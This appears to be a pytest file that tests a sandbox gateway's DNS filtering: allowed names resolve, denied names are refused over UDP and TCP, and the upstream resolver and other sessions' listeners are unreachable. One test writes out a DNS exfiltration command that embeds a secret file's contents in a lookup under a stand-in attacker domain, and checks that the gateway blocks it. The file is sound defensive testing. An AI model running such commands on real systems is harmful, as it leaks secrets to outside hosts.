"""The gateway's DNS listener end to end: a sandboxed shell's resolver
(glibc, through a bind-mounted /etc/resolv.conf) asks the session's
listener, which answers only names the policy allows and forwards those
to a local dnsmasq; denied names get REFUSED and never reach dnsmasq."""
import os
import random
import shutil
import socket
import struct
import subprocess
import time

import pytest

from gateway import (ENV, Daemon, build_dir, events, make_root, policy_with,
                     root_shell)

BIN = build_dir()
AGENTSH = str(BIN / "agentsh")
SHIM = str(BIN / "agentsh-shell-shim")
DNSMASQ = shutil.which("dnsmasq") or "/usr/sbin/dnsmasq"
# Names under allowed.test may be connected to on 443, so they resolve.
NET_RULES = """  - name: allow-test-names
    domains: ["allowed.test", "*.allowed.test"]
    ports: [443]
    decision: allow
  - name: deny-evil
    domains: ["*.evil.example.com"]
    decision: deny
"""


def free_port():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind(("127.0.0.1", 0))
    port = s.getsockname()[1]
    s.close()
    return port


def query(name, qid=0x4242, qtype=1):
    """A DNS query (test code: a few bytes, no parser under test)."""
    q = struct.pack(">HHHHHH", qid, 0x0100, 1, 0, 0, 0)
    for label in name.split("."):
        q += bytes([len(label)]) + label.encode()
    return q + b"\0" + struct.pack(">HH", qtype, 1)


@pytest.fixture
def dns_gw(tmp_path):
    if not os.path.exists(DNSMASQ):
        pytest.fail("dnsmasq is missing: run scripts/install-deps.sh")
    up_port = free_port()
    # Not 127.0.0.1, which the shipped policy lets sandboxed code reach.
    up_addr = f"127.{random.randint(64, 250)}.{random.randint(1, 250)}.54"
    dmlog = tmp_path / "dnsmasq.log"
    dm = subprocess.Popen(
        [DNSMASQ, "--keep-in-foreground", f"--port={up_port}",
         f"--listen-address={up_addr}", "--bind-interfaces", "--no-resolv",
         "--no-hosts", "--conf-file=/dev/null", "--pid-file=", "--user=root",
         "--address=/allowed.test/127.0.0.7",
         "--address=/evil.example.com/127.0.0.9",
         "--log-queries", f"--log-facility={dmlog}"],
        stdout=subprocess.DEVNULL, stderr=subprocess.STDOUT)
    # A loopback address of its own, port 53: what resolv.conf can name.
    listen = f"127.{random.randint(64, 250)}.{random.randint(1, 250)}.53"
    policy = policy_with("network_rules:\n" + NET_RULES)
    d = Daemon(tmp_path, policy_text=policy, extra_config=(
        f"  network:\n    dns:\n      listen: \"{listen}:53\"\n"
        f"      upstream: \"{up_addr}:{up_port}\"\n"))
    d.start()
    root, etc = make_root(tmp_path, d, SHIM, AGENTSH)
    ws = tmp_path / "ws"
    ws.mkdir()
    resolv = tmp_path / "resolv.conf"
    resolv.write_text(f"nameserver {listen}\noptions attempts:1 timeout:2\n")
    sh = root_shell(root, etc, tmp_path, ws, ENV, resolv=resolv)
    try:
        yield d, sh, ws, dmlog, (up_addr, up_port), listen
    finally:
        d.stop()
        dm.terminate()
        dm.wait(5)


def upstream_log(dmlog):
    time.sleep(0.2)  # dnsmasq writes its log asynchronously
    return dmlog.read_text() if dmlog.exists() else ""


def test_allowed_name_resolves_and_is_logged(dns_gw):
    d, sh, _, dmlog, _, listen = dns_gw
    p = sh("getent ahostsv4 www.allowed.test")
    assert p.returncode == 0, p
    st, sessions = d.request("GET", "/api/v1/sessions")
    assert st == 200 and [s.get("dns") for s in sessions] == [f"{listen}:53"]
    assert "127.0.0.7" in p.stdout
    assert "query[A] www.allowed.test" in upstream_log(dmlog)
    ev = [e for e in events(d, "dns_query") if e.get("domain") == "www.allowed.test"]
    assert ev, events(d, "dns_query")
    assert ev[0]["policy"]["effective_decision"] == "allow"
    assert ev[0]["policy"]["rule"] == "allow-test-names"
    assert ev[0]["fields"]["type"] in ("A", "AAAA")


def test_exfiltration_refused_and_never_upstream(dns_gw):
    d, sh, ws, dmlog, _, _ = dns_gw
    (ws / "secret").write_text("s3cr3tvalue")
    p = sh("getent hosts $(cat secret).evil.example.com; echo rc=$?; "
           "getent hosts $(cat secret).other.example.org; echo rc=$?")
    assert "rc=2" in p.stdout and "rc=0" not in p.stdout, p
    log = upstream_log(dmlog)
    assert "s3cr3tvalue" not in log
    ev = {e["domain"]: e for e in events(d, "dns_query")}
    assert ev["s3cr3tvalue.evil.example.com"]["policy"]["rule"] == "deny-evil"
    assert ev["s3cr3tvalue.evil.example.com"]["policy"]["effective_decision"] == "deny"
    assert ev["s3cr3tvalue.other.example.org"]["policy"]["rule"] == \
        "default-deny-network"


def test_refused_rcode_udp_and_tcp(dns_gw):
    """The answers themselves, from inside the sandbox: REFUSED (5) for a
    denied name over UDP and TCP, NOERROR for an allowed one."""
    d, sh, _, dmlog, _, listen = dns_gw
    script = f'''
import socket, struct
q = bytes.fromhex("{query("x.evil.example.com").hex()}")
ok = bytes.fromhex("{query("ok.allowed.test").hex()}")
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(5)
u.sendto(q, ("{listen}", 53)); a = u.recv(4096)
print("udp", struct.unpack(">H", a[:2])[0], a[3] & 15)
u.sendto(ok, ("{listen}", 53)); a = u.recv(4096)
print("udpok", a[3] & 15, struct.unpack(">H", a[6:8])[0])
t = socket.create_connection(("{listen}", 53), timeout=5)
t.sendall(struct.pack(">H", len(q)) + q)
n = struct.unpack(">H", t.recv(2))[0]; a = t.recv(n)
print("tcp", a[3] & 15)
'''
    p = sh(f"python3 -c '{script}'")
    assert p.returncode == 0, p
    assert p.stdout.split("\n")[:3] == ["udp 16962 5", "udpok 0 1", "tcp 5"], p
    assert "x.evil.example.com" not in upstream_log(dmlog)
    tr = {e["fields"]["transport"] for e in events(d, "dns_query")
          if e.get("domain") == "x.evil.example.com"}
    assert tr == {"udp", "tcp"}


def test_upstream_not_reachable_directly(dns_gw):
    """Only the session's listener is reachable: the upstream server itself
    is not, so the policy cannot be bypassed by asking it directly."""
    _, sh, _, dmlog, up, _ = dns_gw
    script = (f'import socket; u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); '
              f'u.sendto(bytes.fromhex("{query("y.evil.example.com").hex()}"), '
              f'("{up[0]}", {up[1]}))')
    p = sh(f"python3 -c '{script}'")
    assert p.returncode != 0
    assert "denied by rule" in p.stderr
    assert "y.evil.example.com" not in upstream_log(dmlog)


def test_each_session_reaches_only_its_own_listener(dns_gw, tmp_path):
    """A second session takes the next loopback address; its processes
    may ask their own listener but not the first session's."""
    d, sh, _, _, _, listen = dns_gw
    assert sh("getent ahostsv4 a.allowed.test").returncode == 0
    ws2 = tmp_path / "ws2"
    ws2.mkdir()
    a, b, c, last = (int(x) for x in listen.split("."))
    other = f"{a}.{b}.{c}.{last + 1}"
    script = ('import socket, sys; u = socket.socket(socket.AF_INET, '
              'socket.SOCK_DGRAM); u.settimeout(5); '
              f'q = bytes.fromhex("{query("b.allowed.test").hex()}"); '
              'u.sendto(q, (sys.argv[1], 53)); print(u.recv(4096)[3] & 15)')
    own = sh(f"python3 -c '{script}' {other}", cwd=ws2)
    assert own.returncode == 0 and own.stdout.strip() == "0", own
    foreign = sh(f"python3 -c '{script}' {listen}", cwd=ws2)
    assert foreign.returncode != 0 and "denied by rule" in foreign.stderr, foreign
    st, sessions = d.request("GET", "/api/v1/sessions")
    assert sorted(s.get("dns") for s in sessions) == \
        sorted([f"{listen}:53", f"{other}:53"])
